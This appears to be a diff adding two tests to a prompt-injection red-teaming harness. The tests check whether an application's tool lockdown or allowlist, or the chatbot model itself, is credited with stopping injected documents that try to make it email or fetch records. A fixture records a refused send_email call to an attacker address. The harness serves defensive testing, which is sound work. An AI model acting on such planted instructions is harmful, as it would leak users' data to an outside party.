@@ -395,3 +395,40 @@ def test_a_tool_control_is_not_credited_against_an_act_no_tool_of_the_system_can
     for r in data["results"]:
         assert not r["outcome"].startswith("blocked-by"), r["case"]
         assert all(x["held"] is not True for x in r["chain"] if x["control"] == "APP-TOOL-05"), r["case"]
+
+
+def test_a_tool_withheld_before_any_call_says_nothing_of_the_model(tmp_path):
+    # The lockdown takes the lab's mail and fetch tools away once a review is in the context, before
+    # the model is asked anything: the control acted, but nothing shows the model tried to use them.
+    data = run_campaign(load([SHOPBOT]), target="lab", probes="doc-email-records,doc-fetch-records",
+                        db=str(tmp_path / "h.sqlite"), lab_controls={"untrusted-context-lockdown": True})
+    assert len(data["results"]) == 2
+    for r in data["results"]:
+        assert not any(c["name"] in ("send_email", "fetch_url") for c in r["evidence"]["tool_calls"]), r["case"]
+        links = {x["control"]: x for x in r["chain"]}
+        assert r["outcome"] == "blocked-by-application", r["case"]
+        assert links["APP-TOOL-05"]["held"] is True
+        model = links["MOD-SAFE-03"]
+        assert model["held"] is None and "before the model called" in model["evidence"], r["case"]
+
+
+def test_a_control_that_refused_the_call_the_model_made_shows_the_model_tried(tmp_path):
+    # The allowlist offers order lookup alone, and reports acting only on a call to a tool it withheld:
+    # that call is the model's attempt, so the model's link is that it acted on the plant.
+    from demarcate.testing.goals import GOALS, Evidence, Seen, ToolRoles
+    from demarcate.testing.targets import Records, Reply
+
+    system = load([SHOPBOT])
+    reply = Reply(status=200, text="done", tool_calls=[
+        {"name": "send_email", "arguments": {"to": "x@attacker.test"}, "status": "refused"}],
+        fired=[{"control": "APP-TOOL-01", "detail": "refused send_email"}])
+    seen = Seen("c4n4ry", "x@attacker.test", Evidence(reply, Records(), [], []), reply.tool_calls or [], True,
+                "done", "done", {"APP-TOOL-01": "refused send_email"}, ToolRoles.of(system))
+    judged = GOALS["email-out"].judge(seen)
+    assert judged.blocked == ["APP-TOOL-01"] and not judged.withheld
+    # The same control reported with no call to a tool that sends: it kept the tool out of reach.
+    quiet = Seen("c4n4ry", "x@attacker.test", Evidence(Reply(status=200, text="done", tool_calls=[]), Records(), [], []),
+                 [], True, "done", "done", {"APP-TOOL-01": "offered order_lookup alone"}, ToolRoles.of(system))
+    judged = GOALS["email-out"].judge(quiet)
+    assert judged.blocked == [] and judged.withheld.startswith("APP-TOOL-01 acted before")
+    assert [(s.control, s.held) for s in judged.steps] == [("APP-TOOL-01", True)]
